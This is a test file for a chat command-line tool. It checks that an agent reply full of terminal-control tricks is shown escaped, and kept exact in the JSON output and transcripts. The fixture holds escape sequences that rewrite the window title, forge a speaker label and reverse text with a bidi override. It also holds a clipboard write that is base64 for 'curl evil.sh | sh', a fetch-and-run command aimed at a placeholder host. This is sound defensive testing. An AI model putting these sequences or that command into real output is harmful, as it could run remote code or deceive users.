import { afterAll, beforeAll, expect, test } from "bun:test";
import { orgCommand } from "../../config/org-bun-command.ts";
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { RoomEvent } from "../../room/room-event.ts";
import { parseScript } from "../../scripted-server/script.ts";
import { startScriptedServer } from "../../scripted-server/start-scripted-server.ts";
import { terminalControlProblem } from "../../testing/terminal-hostile-cases.ts";

// Invariants named by number in this file are those of docs/ARCHITECTURE.md.
const workspace = mkdtempSync(join(tmpdir(), "org-once-hostile-"));
chmodSync(workspace, 0o755);

// Title, clipboard, erase + CR forging a speaker, C1 CSI, DEL, bidi override.
const HOSTILE = "ok \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2K\rpython │ safe \u009b2J\x7f \u202eevil";
const script = parseScript(
  JSON.stringify({ models: ["scripted"], rules: [{ when: { persona: "agent" }, reply: { text: HOSTILE, chunkSize: 7 } }] }),
  "chat-command.hostile.test.ts",
);
let server: Awaited<ReturnType<typeof startScriptedServer>>;
beforeAll(async () => {
  server = await startScriptedServer({ script, port: 0 });
});
afterAll(async () => {
  await server?.stop();
  rmSync(workspace, { recursive: true, force: true });
});

async function once(args: string[]) {
  const child = Bun.spawn(orgCommand(["chat", "--workspace", workspace, "--mode", "direct:agent", "--once", "hi", ...args]), {
    cwd: workspace,
    env: { ...process.env, NO_COLOR: "1", OLLAMA_BASE: server.url, OLLAMA_MODEL: "scripted" },
    stdout: "pipe",
    stderr: "pipe",
    stdin: "ignore",
  });
  const [stdout, stderr, exitCode] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text(), child.exited]);
  return { stdout, stderr, exitCode };
}

test("invariant 10: chat --once shows a hostile reply as visible escapes; --json and the transcript keep it exact", async () => {
  const shown = await once([]);
  expect(shown.exitCode).toBe(0);
  expect(terminalControlProblem(shown.stdout + shown.stderr)).toBeUndefined();
  expect(shown.stdout).toContain(
    "agent │ ok \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x0dpython │ safe \\u009b2J\\x7f \\u202eevil",
  );

  const json = await once(["--json"]);
  expect(json.exitCode).toBe(0);
  // Every line parses; none carries a character a terminal would act on.
  expect(terminalControlProblem(json.stdout)).toBeUndefined();
  const events = json.stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as RoomEvent);
  const text = events.flatMap((event) => (event.type === "text-delta" ? [event.text] : [])).join("");
  expect(text).toBe(HOSTILE);

  const sessions = join(workspace, ".org", "sessions");
  for (const file of readdirSync(sessions)) {
    const replies = readFileSync(join(sessions, file), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { type?: string; message?: { from: string; text: string } })
      .filter((line) => line.type === "message" && line.message?.from === "agent");
    expect(replies.map((line) => line.message?.text)).toEqual([HOSTILE]);
  }
}, 30_000);
